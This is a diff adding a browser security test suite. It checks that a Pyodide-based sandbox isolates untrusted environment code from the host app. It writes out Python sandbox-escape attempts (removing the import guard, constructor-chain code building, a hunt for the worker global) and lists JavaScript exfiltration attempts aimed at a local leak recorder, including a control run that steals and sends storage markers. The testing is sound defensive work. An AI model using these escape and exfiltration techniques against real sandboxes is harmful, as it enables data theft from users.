@@ -1,0 +1,555 @@
+// Proves in real Chromium that environment code cannot reach the app: not from Python through the
+// real sandbox runtime, and not even from JavaScript running inside the sandbox worker or frame.
+// The recorders, storage checks, BroadcastChannel and navigation checks each have a control run
+// where the same attempt does succeed, so every "nothing happened" assertion can fail.
+// Findings and residuals are printed (search the output for FINDING and RESIDUAL).
+import { randomUUID } from 'node:crypto';
+import { createSocket, type Socket } from 'node:dgram';
+import { createServer, type IncomingMessage, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { startRig, type BrowserRig } from './harness.ts';
+import type { AttackReport, AttackRequest, AppStorageSnapshot, SpadeTestApi } from './pages/sandbox-page.ts';
+
+const PAGE = '/tests/browser/pages/sandbox.html';
+const CONTROL_PAGE = '/tests/browser/pages/no-csp.html';
+const MARKER = `spade-marker-${randomUUID()}`;
+const CHANNEL = 'spade-lab';
+/** Chromium resolves any *.leak.test name to the leak recorder, so a DNS look-up of one shows up as a TCP connection. */
+const LEAK_DOMAIN = 'leak.test';
+
+/** Records every request (and raw TCP connection, and UDP datagram) that reaches it. */
+interface LeakRecorder {
+  origin: string;
+  requests: string[];
+  tcpConnections: number;
+  udpPackets: string[];
+  close(): Promise<void>;
+}
+
+async function startLeakRecorder(): Promise<LeakRecorder> {
+  const recorder: LeakRecorder = { origin: '', requests: [], tcpConnections: 0, udpPackets: [], close: async () => undefined };
+  const server: Server = createServer((req, res) => {
+    recorder.requests.push(`${req.method} ${req.url}`);
+    const type = req.url?.includes('.js') ? 'text/javascript' : 'text/plain';
+    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': type });
+    res.end(type === 'text/javascript' ? 'postMessage("leak script ran");' : 'recorded');
+  });
+  server.on('connection', () => (recorder.tcpConnections += 1));
+  server.on('upgrade', (req: IncomingMessage, socket) => {
+    recorder.requests.push(`UPGRADE ${req.url}`);
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  recorder.origin = `http://127.0.0.1:${port}`;
+  // A STUN server address is host:port over UDP; listen on the same port number for WebRTC attempts.
+  const udp: Socket = createSocket('udp4');
+  udp.on('message', (message, from) => recorder.udpPackets.push(`${from.address}:${from.port} ${message.length} bytes`));
+  await new Promise<void>((resolve, reject) => {
+    udp.once('error', reject);
+    udp.bind(port, '127.0.0.1', () => resolve());
+  });
+  recorder.close = async () => {
+    udp.close();
+    server.closeAllConnections();
+    await new Promise((resolve) => server.close(resolve));
+  };
+  return recorder;
+}
+
+let rig: BrowserRig;
+let leak: LeakRecorder;
+let page: Page;
+/** Requests that reached the app's own (Vite) server on a leak path. */
+const appLeaks: string[] = [];
+/** TCP connections the leak server had after the set-up controls; any later one is a sandbox's. */
+let controlConnections = 0;
+const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
+
+/** Every recorded request except the controls' (whose tags start with "control-"). */
+function leaks(): string[] {
+  return [...leak.requests.map((r) => `leak server: ${r}`), ...appLeaks.map((r) => `app server: ${r}`)].filter((r) => !r.includes('/control-'));
+}
+
+function leakByName(): string {
+  return `http://${LEAK_DOMAIN}:${new URL(leak.origin).port}`;
+}
+
+function attackRequest(tag: string, extra: Partial<AttackRequest> = {}): AttackRequest {
+  return { tag, leakOrigin: leak.origin, leakByName: leakByName(), channelName: CHANNEL, attemptTimeoutMs: 3000, ...extra };
+}
+
+const readStorage = (): Promise<AppStorageSnapshot> => page.evaluate(() => window.spadeTest.readAppStorage());
+
+function show(label: string, value: unknown): void {
+  console.log(`${label}:\n${JSON.stringify(value, null, 2)}`);
+}
+
+beforeAll(async () => {
+  rig = await startRig([`--host-resolver-rules=MAP *.${LEAK_DOMAIN} 127.0.0.1`]);
+  // Files under src/ may change while this runs; a Vite full reload would wipe the page's state.
+  await rig.server.watcher.close();
+  leak = await startLeakRecorder();
+  rig.server.httpServer?.on('request', (req: IncomingMessage) => {
+    if (req.url && /leak/i.test(req.url)) appLeaks.push(`${req.method} ${req.url}`);
+  });
+  page = await rig.open(PAGE);
+  await page.waitForFunction(() => window.spadeTest !== undefined, undefined, { timeout: 60_000 });
+  await page.evaluate((marker) => window.spadeTest.seedAppStorage(marker), MARKER);
+});
+
+afterAll(async () => {
+  await page?.evaluate(() => window.spadeTest.closeRuntime()).catch(() => undefined);
+  await rig?.close();
+  await leak?.close();
+});
+
+describe('set-up and controls', () => {
+  it('the app origin holds the markers and both recorders hear requests the page makes itself', async () => {
+    const storage = await readStorage();
+    expect(storage.idb.marker).toBe(MARKER);
+    expect(storage.cache.marker).toBe(MARKER);
+    expect(storage.localStorage.marker).toBe(MARKER);
+    expect(storage.opfs.marker).toBe(MARKER);
+    await page.evaluate(async (origin) => {
+      await fetch(`${origin}/leak/control-page/fetch`, { mode: 'no-cors' });
+      await fetch('/__leak/control-page/fetch');
+    }, leak.origin);
+    expect(leak.requests).toContain('GET /leak/control-page/fetch');
+    expect(appLeaks).toContain('GET /__leak/control-page/fetch');
+    expect(leaks()).toEqual([]);
+    expect(leak.tcpConnections).toBeGreaterThan(0);
+    controlConnections = leak.tcpConnections;
+  });
+});
+
+// --- a. Python level, through the real runtime ----------------------------------------------------
+
+const PYTHON_ESCAPE = String.raw`
+import sys, json, gc, types, importlib, time
+
+LEAK = "__LEAK__"
+
+class EscapeEnv:
+    def __init__(self, max_turns=12):
+        self.max_turns = max_turns
+
+    def reset(self, seed=None):
+        out = {}
+
+        def attempt(name, run):
+            try:
+                value = run()
+                out[name] = {"ok": True, "value": repr(value)[:300]}
+                return value
+            except BaseException as exc:
+                out[name] = {"ok": False, "error": (type(exc).__name__ + ": " + str(exc))[:400]}
+                return None
+
+        def run_js():
+            from pyodide.code import run_js
+            return run_js("self.origin")
+
+        def pyfetch():
+            from pyodide.http import pyfetch
+            # pyfetch is a coroutine: drive it by hand up to its first await.
+            return pyfetch(LEAK + "/leak/python/pyfetch").send(None)
+
+        def open_url():
+            from pyodide.http import open_url
+            return open_url(LEAK + "/leak/python/open_url").read()
+
+        # 1. With the harness's import guard in place.
+        attempt("import js", lambda: __import__("js"))
+        attempt("import pyodide_js", lambda: __import__("pyodide_js"))
+        attempt("from pyodide.code import run_js", run_js)
+        attempt("importlib.import_module('_pyodide_core')", lambda: importlib.import_module("_pyodide_core"))
+        attempt("gc: hidden js modules still in memory", lambda: sorted({
+            o.__name__ for o in gc.get_objects()
+            if isinstance(o, types.ModuleType) and o.__name__.split(".")[0] in ("js", "pyodide_js")
+        }))
+
+        # 2. Remove the guard and import again.
+        before = [type(f).__name__ for f in sys.meta_path]
+        sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_BlockedImport"]
+        out["meta_path"] = {"before": before, "after": [type(f).__name__ for f in sys.meta_path]}
+        js = attempt("import js (guard removed)", lambda: __import__("js"))
+        attempt("js.object_keys() (guard removed)", lambda: list(js.object_keys()))
+        attempt("js.eval (guard removed)", lambda: js.eval("self.origin"))
+        attempt("from js import fetch (guard removed)", lambda: js.fetch)
+        attempt("from pyodide.code import run_js (guard removed)", run_js)
+        attempt("pyodide.http.pyfetch (guard removed)", pyfetch)
+        attempt("pyodide.http.open_url (guard removed)", open_url)
+        pj = attempt("import pyodide_js (guard removed)", lambda: __import__("pyodide_js"))
+
+        # 3. From a JS object to the worker global.
+        F = attempt("pyodide_js.toPy.constructor", lambda: pj.toPy.constructor)
+        attempt("Function('return self')()", lambda: F("return self")())
+        attempt("Function.new('return self')", lambda: F.new("return self"))
+        attempt("AsyncFunction via runPythonAsync.constructor", lambda: pj.runPythonAsync.constructor("return self"))
+        attempt("Function via toPy.constructor.constructor", lambda: pj.toPy.constructor.constructor("return self")())
+        attempt("pyodide_js.loadPackage(leak url)", lambda: pj.loadPackage(LEAK + "/leak/python/loadPackage.whl"))
+
+        def search_global():
+            # Breadth-first over every JS object reachable from pyodide_js and js by property
+            # access (depth 5), looking for the worker global and for objects holding a worker API.
+            api_marks = ("indexedDB", "fetch", "XMLHttpRequest", "WebSocket", "caches", "importScripts", "postMessage")
+            start, visited, skipped, found, apis, seen = time.time(), 0, 0, [], [], set()
+            queue = [("pyodide_js", pj, 0), ("js", js, 0)]
+            while queue and time.time() - start < 20:
+                path, obj, depth = queue.pop(0)
+                visited += 1
+                try:
+                    if hasattr(obj, "importScripts") and hasattr(obj, "postMessage"):
+                        found.append(path)
+                        continue
+                    apis.extend(path + "." + m for m in api_marks if hasattr(obj, m))
+                    if depth >= 5:
+                        continue
+                    # Typed arrays and long arrays (the wasm heap views) only hold numbers.
+                    if hasattr(obj, "BYTES_PER_ELEMENT") or (hasattr(obj, "length") and obj.typeof == "object" and obj.length > 1000):
+                        skipped += 1
+                        continue
+                    names = dir(obj)
+                except BaseException:
+                    continue
+                for name in names:
+                    if name.startswith("__"):
+                        continue
+                    try:
+                        value = getattr(obj, name)
+                        key = value.js_id
+                    except BaseException:
+                        continue
+                    if key in seen:
+                        continue
+                    seen.add(key)
+                    queue.append((path + "." + name, value, depth + 1))
+            return {"visited": visited, "skipped_numeric_arrays": skipped, "exhausted": not queue, "found": found, "apis": apis, "seconds": round(time.time() - start, 2)}
+
+        attempt("search pyodide_js for the worker global (depth 5)", search_global)
+
+        # 4. Worker APIs that are reachable from pyodide_js without the global.
+        idb = attempt("pyodide_js._module.IDBFS.indexedDB()", lambda: pj._module.IDBFS.indexedDB())
+        attempt("IDBFS.indexedDB().open('spade-lab')", lambda: idb.open("spade-lab"))
+        return json.dumps(out), {}
+
+    def step(self, action):
+        return "done", 0.0, True, False, {}
+`;
+
+type PythonOutcome = { ok: true; value: string } | { ok: false; error: string };
+
+describe('a. Python level: environment code in the real browser runtime', () => {
+  let outcomes: Record<string, PythonOutcome> & { meta_path?: { before: string[]; after: string[] } };
+  let lazyFile: { result: Awaited<ReturnType<SpadeTestApi['runEnv']>>; restartsBefore: number; restartsAfter: number };
+
+  beforeAll(async () => {
+    const startMs = await page.evaluate(() => window.spadeTest.startRuntime({ keepSpare: false }));
+    console.log(`browser sandbox started in ${startMs} ms`);
+    // Each escape runs first in a fresh sandbox (the one before it is crashed or tainted).
+    const lazyCode = [
+      'import sys',
+      'class LazyFileEnv:',
+      '    def reset(self, seed=None):',
+      '        sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_BlockedImport"]',
+      '        import pyodide_js',
+      `        pyodide_js.FS.createLazyFile("/tmp", "leak.txt", "${leak.origin}/leak/python/lazyfile", True, False)`,
+      '        with open("/tmp/leak.txt") as handle:',
+      '            return handle.read(), {}',
+      '    def step(self, action):',
+      '        return "x", 0.0, True, False, {}',
+    ].join('\n');
+    const restartsBefore = await page.evaluate(() => window.spadeTest.restarts());
+    const lazyResult = await page.evaluate((source) => window.spadeTest.runEnv(source), lazyCode);
+    lazyFile = { result: lazyResult, restartsBefore, restartsAfter: await page.evaluate(() => window.spadeTest.restarts()) };
+    const code = PYTHON_ESCAPE.replace('__LEAK__', leak.origin);
+    const result = await page.evaluate((source) => window.spadeTest.runEnv(source, { resetTimeoutMs: 30_000 }), code);
+    if (!result.ok) throw new Error(`escape environment did not run: ${result.code} ${result.message}`);
+    console.log(`escape environment ran in ${result.ms} ms`);
+    outcomes = JSON.parse(result.observation);
+    show('Python escape attempts', outcomes);
+  });
+
+  it('the import guard refuses js, pyodide_js and pyodide.code', () => {
+    for (const name of ['import js', 'import pyodide_js', 'from pyodide.code import run_js', "importlib.import_module('_pyodide_core')"]) {
+      const outcome = outcomes[name]!;
+      expect(outcome.ok, name).toBe(false);
+      expect((outcome as { error: string }).error, name).toMatch(/^ImportError: module '.*' is not available inside the SPADE sandbox/);
+    }
+  });
+
+  it('with the guard removed, the js module is empty, so eval, fetch, run_js and pyodide.http are unreachable', () => {
+    expect(outcomes.meta_path?.before).toContain('_BlockedImport');
+    expect(outcomes.meta_path?.after).not.toContain('_BlockedImport');
+    expect(outcomes['import js (guard removed)']?.ok).toBe(true);
+    // jsglobals is Object.create(null): the js module has no properties at all.
+    expect(outcomes['js.object_keys() (guard removed)']).toEqual({ ok: true, value: '[]' });
+    for (const name of ['js.eval (guard removed)', 'from js import fetch (guard removed)', 'from pyodide.code import run_js (guard removed)', 'pyodide.http.pyfetch (guard removed)', 'pyodide.http.open_url (guard removed)']) {
+      expect(outcomes[name]?.ok, name).toBe(false);
+    }
+  });
+
+  it('pyodide_js is reachable once the guard is gone, but building code from a string throws EvalError (no unsafe-eval)', () => {
+    expect(outcomes['import pyodide_js (guard removed)']?.ok).toBe(true);
+    expect(outcomes['pyodide_js.toPy.constructor']).toEqual({ ok: true, value: expect.stringContaining('function Function()') });
+    for (const name of ['Function(\'return self\')()', "Function.new('return self')", 'AsyncFunction via runPythonAsync.constructor', 'Function via toPy.constructor.constructor']) {
+      const outcome = outcomes[name]!;
+      expect(outcome.ok, name).toBe(false);
+      expect((outcome as { error: string }).error, name).toMatch(/EvalError/);
+    }
+  });
+
+  it('no object reachable from pyodide_js is the worker global', () => {
+    const search = outcomes['search pyodide_js for the worker global (depth 5)']!;
+    expect(search.ok).toBe(true);
+    const value = (search as { value: string }).value;
+    expect(value).toMatch(/'visited': \d{4,}/);
+    expect(value).toMatch(/'exhausted': True/);
+    expect(value).toMatch(/'found': \[\]/);
+  });
+
+  it('the worker APIs Emscripten does expose to Python are useless in the opaque origin', () => {
+    // FINDING (defence holds): pyodide_js._module.IDBFS.indexedDB() hands Python the worker's
+    // IDBFactory, and FS.createLazyFile makes the worker do a synchronous XHR. Both fail here:
+    // an opaque origin has no IndexedDB, and the frame CSP has no connect-src.
+    console.log(`FINDING (defence holds): Python reaches the worker's IDBFactory via pyodide_js._module.IDBFS.indexedDB(); open() -> ${JSON.stringify(outcomes["IDBFS.indexedDB().open('spade-lab')"])}`);
+    expect(outcomes['pyodide_js._module.IDBFS.indexedDB()']).toEqual({ ok: true, value: '[object IDBFactory]' });
+    const open = outcomes["IDBFS.indexedDB().open('spade-lab')"]!;
+    expect(open.ok).toBe(false);
+    expect((open as { error: string }).error).toMatch(/^JsException: SecurityError: .*access to the Indexed Database API is denied/);
+  });
+
+  it('a synchronous XHR through FS.createLazyFile is refused by the frame CSP, which kills the sandbox', () => {
+    console.log(`FS.createLazyFile escape: ${JSON.stringify(lazyFile.result)}`);
+    // The NetworkError escapes Pyodide as a fatal JS error; the host treats it as a crash and replaces the sandbox.
+    expect(lazyFile.result).toMatchObject({ ok: false, code: 'sandbox_crashed' });
+    expect((lazyFile.result as { message: string }).message).toMatch(/XMLHttpRequest/);
+    expect(lazyFile.restartsAfter).toBe(lazyFile.restartsBefore + 1);
+  });
+
+  it('no Python attempt reached the network, and the sandbox still answers', async () => {
+    await sleep(1500);
+    expect(leaks()).toEqual([]);
+    expect(leak.tcpConnections).toBe(controlConnections);
+    const again = await page.evaluate(() =>
+      window.spadeTest.runEnv('class OkEnv:\n    def reset(self, seed=None):\n        return "fine", {}\n    def step(self, action):\n        return "x", 0.0, True, False, {}\n'),
+    );
+    expect(again).toMatchObject({ ok: true, observation: 'fine' });
+    await page.evaluate(() => window.spadeTest.closeRuntime());
+  });
+});
+
+// --- b. JavaScript level, inside the sandbox worker and frame -------------------------------------
+
+const NETWORK_ATTEMPTS = [
+  'fetch(leak server, absolute)',
+  'fetch(leak server, no-cors keepalive POST)',
+  'fetch(leak host by name, DNS)',
+  'fetch(app origin, absolute)',
+  'fetch(app-relative /__leak)',
+  'XMLHttpRequest async',
+  'XMLHttpRequest sync',
+  'WebSocket',
+  'EventSource',
+  'navigator.sendBeacon',
+  'importScripts(leak)',
+  'import(leak)',
+  'FontFace(url(leak)).load()',
+  'new Worker(leak url)',
+  'nested blob worker fetches leak',
+  'WebTransport',
+  'navigator.serviceWorker.register',
+];
+
+const STORAGE_ATTEMPTS = [
+  'indexedDB.databases()',
+  'indexedDB.open(app db) read marker',
+  'indexedDB.open(app db) write pwned',
+  'caches.keys()',
+  'caches.open(app cache) match marker',
+  'caches.open(app cache) put pwned',
+  'localStorage',
+  'sessionStorage',
+  'OPFS navigator.storage.getDirectory() read marker',
+  'OPFS write pwned',
+];
+
+describe('b. JavaScript level: an attacker already running JS as the sandbox worker', () => {
+  let report: AttackReport;
+  const deathText = `attacker-controlled death report ${randomUUID()}`;
+
+  beforeAll(async () => {
+    report = await page.evaluate((request) => window.spadeTest.runWorkerAttack('sandbox', request), attackRequest('sandbox', { throwAtEnd: deathText }));
+    await sleep(1000);
+    show('JS attack from the sandbox worker', report);
+  });
+
+  it('runs in the sandbox frame\'s opaque origin, was handed exactly one port and no page objects', () => {
+    expect(report.results['self.origin']).toEqual({ ok: true, value: 'null' });
+    expect(report.results['location.href']).toEqual({ ok: true, value: expect.stringMatching(/^blob:null\//) });
+    expect(report.results['window/parent/document reachable']).toEqual({
+      ok: true,
+      value: { window: 'undefined', parent: 'undefined', top: 'undefined', opener: 'undefined', document: 'undefined' },
+    });
+    expect(report.boot).toEqual({ keys: ['files', 'port'], transferredPorts: 1, fileNames: [] });
+    // No WebRTC in a worker: the one network path CSP does not govern is not there.
+    // (RTCDataChannel exists in workers only to receive channels transferred from a window.)
+    expect(report.results['WebRTC in this scope']).toEqual({
+      ok: true,
+      value: { RTCPeerConnection: 'undefined', RTCDataChannel: 'function', newRTCDataChannel: expect.stringMatching(/^TypeError: .*Illegal constructor/) },
+    });
+  });
+
+  it('sees nothing of the app\'s IndexedDB, Cache Storage, localStorage or OPFS', () => {
+    expect(report.stolen).toBe('nothing');
+    expect(JSON.stringify(report)).not.toContain(MARKER);
+    // Stricter than "saw nothing": storage of an opaque origin is refused outright, reads and
+    // writes alike (IndexedDB: SecurityError; caches, localStorage, OPFS: not even exposed).
+    for (const name of STORAGE_ATTEMPTS) expect(report.results[name]?.ok, name).toBe(false);
+    expect(report.results['indexedDB.open(app db) read marker']).toEqual({ ok: false, error: expect.stringMatching(/^SecurityError/) });
+  });
+
+  it('cannot reach the network in any way (each attempt fails; no request, TCP connection or name look-up arrived)', async () => {
+    for (const name of NETWORK_ATTEMPTS) {
+      expect(report.results[name]?.ok, name).toBe(false);
+    }
+    await sleep(500);
+    expect(leaks()).toEqual([]);
+    expect(leak.tcpConnections).toBe(controlConnections);
+  });
+
+  it('d. cannot talk to the page over BroadcastChannel, and its postMessage reaches only the frame', () => {
+    // The page's channel does hear a same-origin sender (control) ...
+    expect(report.page.broadcastReceived).toContainEqual({ fromPageControl: true });
+    // ... but nothing the sandbox posted on the same channel name, nor does the sandbox hear the page.
+    expect(report.page.broadcastReceived.filter((m) => JSON.stringify(m).includes('fromAttacker'))).toEqual([]);
+    expect(report.broadcastReceivedByAttacker).toEqual([]);
+    expect(report.results['BroadcastChannel post to page']?.ok).toBe(true);
+    // self.postMessage goes to the frame's Worker object, which forwards nothing.
+    expect(report.page.windowMessages.filter((m) => JSON.stringify(m).includes('fromAttacker'))).toEqual([]);
+  });
+
+  it('the only other path to the page is the frame\'s death report, which carries attacker-chosen text', () => {
+    // Documented behaviour, not a leak of app data: the host truncates it to 500 characters and
+    // only shows it as the reason a sandbox died.
+    expect(report.page.windowMessages).toHaveLength(1);
+    expect(report.page.windowMessages[0]).toMatchObject({ spadeSandboxDied: expect.stringContaining(deathText) });
+  });
+});
+
+describe('b. JavaScript level: an attacker running as the sandbox frame\'s own script (same html, same CSP)', () => {
+  let report: AttackReport;
+
+  beforeAll(async () => {
+    report = await page.evaluate((request) => window.spadeTest.runFrameAttack(request), attackRequest('frame'));
+    await sleep(1500);
+    show('JS attack from the sandbox frame script', report);
+  });
+
+  it('has an opaque origin and no access to storage, cookies or the parent page', () => {
+    expect(report.results['self.origin']).toEqual({ ok: true, value: 'null' });
+    for (const name of [
+      'localStorage', 'localStorage write pwned', 'sessionStorage', 'document.cookie read', 'document.cookie write',
+      'indexedDB.open(app db)', 'caches.keys()', 'OPFS navigator.storage.getDirectory()',
+      'parent.document', 'parent.localStorage', 'parent.spadeTest', 'top.location.href read',
+    ]) {
+      expect(report.results[name]?.ok, name).toBe(false);
+    }
+    expect(JSON.stringify(report)).not.toContain(MARKER);
+  });
+
+  it('cannot send anything out: fetch, beacon, XHR, sockets, elements, popups, top navigation, forms', async () => {
+    for (const name of [
+      'fetch(leak server)', 'fetch(app origin)', 'XMLHttpRequest', 'WebSocket', 'EventSource',
+      '<img src=leak>', '<script src=leak>', '<link rel=stylesheet href=leak>', '<link rel=prefetch href=leak>',
+      'window.open(leak)', 'top.location = leak',
+    ]) {
+      expect(report.results[name]?.ok, name).toBe(false);
+    }
+    // sendBeacon only says it queued the beacon; the frame CSP then refuses it.
+    expect(report.violations.some((v) => v.startsWith('connect-src') && v.includes('/frame-beacon'))).toBe(true);
+    await sleep(1000);
+    expect(leaks()).toEqual([]);
+  });
+
+  it('residuals, only for script in the frame itself (environments never run there): WebRTC and navigation pre-connects', () => {
+    // Printed, not asserted: these are browser behaviours outside CSP. Environment code runs in the
+    // worker, which has no WebRTC and no DOM (asserted above), and the frame runs only its fixed script.
+    console.log(`RESIDUAL frame script: RTCPeerConnection ${JSON.stringify(report.results['RTCPeerConnection STUN to leak host'])}; `
+      + `UDP datagrams at the leak host: ${JSON.stringify(leak.udpPackets)}`);
+    console.log(`RESIDUAL frame script: TCP connections to the leak host after the frame attack: ${leak.tcpConnections - controlConnections} `
+      + `(a CSP-blocked nested <iframe src> still pre-connects; no HTTP request was sent)`);
+  });
+});
+
+describe('after the attacks', () => {
+  it('the app\'s IndexedDB, Cache Storage, localStorage and OPFS markers are intact and nothing was written', async () => {
+    const storage = await readStorage();
+    expect(storage.idb).toEqual({ marker: MARKER, pwned: null, stores: ['kv'] });
+    expect(storage.cache.marker).toBe(MARKER);
+    expect(storage.cache.pwned).toBeNull();
+    expect(storage.localStorage).toEqual({ marker: MARKER, pwned: null });
+    expect(storage.opfs).toEqual({ marker: MARKER, pwned: null, error: null });
+    expect(leaks()).toEqual([]);
+  });
+
+  it('control: the same attacker as a page-origin worker does steal, write and send (so the checks above can fail)', async () => {
+    const report = await page.evaluate((request) => window.spadeTest.runWorkerAttack('page-worker', request), attackRequest('control-worker'));
+    await sleep(1000);
+    show('control: JS attack from a page-origin worker (outcomes only)', Object.fromEntries(Object.entries(report.results).map(([k, v]) => [k, v.ok])));
+    expect(report.results['self.origin']).toEqual({ ok: true, value: new URL(rig.baseUrl).origin });
+    expect(report.stolen).toContain(MARKER);
+    expect(report.results['fetch(leak server, absolute)']?.ok).toBe(true);
+    expect(leak.requests.some((r) => r.includes('/leak/control-worker/fetch?data=' + encodeURIComponent(report.stolen)))).toBe(true);
+    expect(appLeaks.some((r) => r.includes('/__leak/control-worker/fetch-app'))).toBe(true);
+    expect(report.page.broadcastReceived).toContainEqual({ fromAttacker: 'control-worker', stolen: report.stolen });
+    expect(report.broadcastReceivedByAttacker).toContainEqual({ fromPage: 'ping' });
+    const storage = await readStorage();
+    expect(storage.idb.pwned).toBe('pwned by attacker');
+    expect(storage.cache.pwned).toBe('pwned by attacker');
+    expect(storage.opfs.pwned).toBe('pwned by attacker');
+  });
+});
+
+// --- c. The navigation hole ------------------------------------------------------------------------
+
+describe('c. a sandboxed srcdoc frame navigating itself to a leak URL', () => {
+  it('loads and runs under the app\'s page CSP, but its navigation to the leak URL sends no request', async () => {
+    const port = new URL(leak.origin).port;
+    const connections: string[] = [];
+    for (const method of ['location', 'anchor', 'meta-refresh'] as const) {
+      const before = leak.tcpConnections;
+      // A fresh host name per method, so a pre-connect cannot hide behind an idle pooled socket.
+      const url = `http://${method}-data-x.${LEAK_DOMAIN}:${port}/leak/navigation-${method}?data=x`;
+      const result = await page.evaluate(([target, how]) => window.spadeTest.navigationProbe(target, how), [url, method] as const);
+      console.log(`navigation probe (${method}) under the app CSP: ${JSON.stringify(result)}`);
+      expect(result.loaded, method).toBe(true);
+      expect(result.frameOrigin, method).toBe('null');
+      connections.push(`${method}: ${leak.tcpConnections - before}`);
+    }
+    expect(leaks()).toEqual([]);
+    console.log(`RESIDUAL navigation under frame-src 'none': no HTTP request, but TCP connections (after resolving the host name) per method: ${connections.join(', ')}`);
+  });
+
+  it('control: on a page without the app\'s CSP the same frame does reach the leak server', async () => {
+    const control = await rig.open(CONTROL_PAGE);
+    try {
+      await control.waitForFunction(() => window.spadeControl !== undefined);
+      const url = `http://control-data-x.${LEAK_DOMAIN}:${new URL(leak.origin).port}/leak/control-navigation?data=x`;
+      const result = await control.evaluate((target) => window.spadeControl.navigationProbe(target, 'location'), url);
+      expect(result.loaded).toBe(true);
+      expect(leak.requests).toContain('GET /leak/control-navigation?data=x');
+    } finally {
+      await control.context().close();
+    }
+  });
+});
+
+describe('the page itself', () => {
+  it('recorded no leak over the whole run', () => {
+    expect(leaks()).toEqual([]);
+  });
+});
